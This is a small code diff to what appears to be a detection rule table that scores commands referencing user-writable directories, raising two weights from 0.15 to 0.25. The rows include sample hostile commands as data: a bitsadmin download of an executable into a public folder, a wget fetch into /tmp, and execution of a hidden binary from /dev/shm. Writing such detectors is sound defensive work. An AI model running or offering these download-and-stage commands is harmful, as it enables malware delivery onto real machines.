@@ -142,14 +142,14 @@ GENERAL: tuple[Meaning, ...] = (
     _row(
         ("writable", "names a user-writable place"),
         contains(*SHARED_WRITABLE, *PROFILE),
-        (0.15, 0.85),
+        (0.25, 0.85),
         ("bitsadmin /transfer n http://a/b c:\\Users\\Public\\Svn.exe", "certutil -f x %TEMP%\\a"),
         ("certutil -dump c:\\certs\\a.cer", "dir C:\\Windows\\System32"),
     ),
     _row(
         ("unix_writable", "names a user-writable place"),
         contains(*UNIX_WRITABLE),
-        (0.15, 0.9),
+        (0.25, 0.9),
         ("wget -q http://a/b -O /tmp/x", "sh -c '/dev/shm/.a/x &'"),
         ("ls /usr/bin", "tar xz -C /srv/app"),
     ),
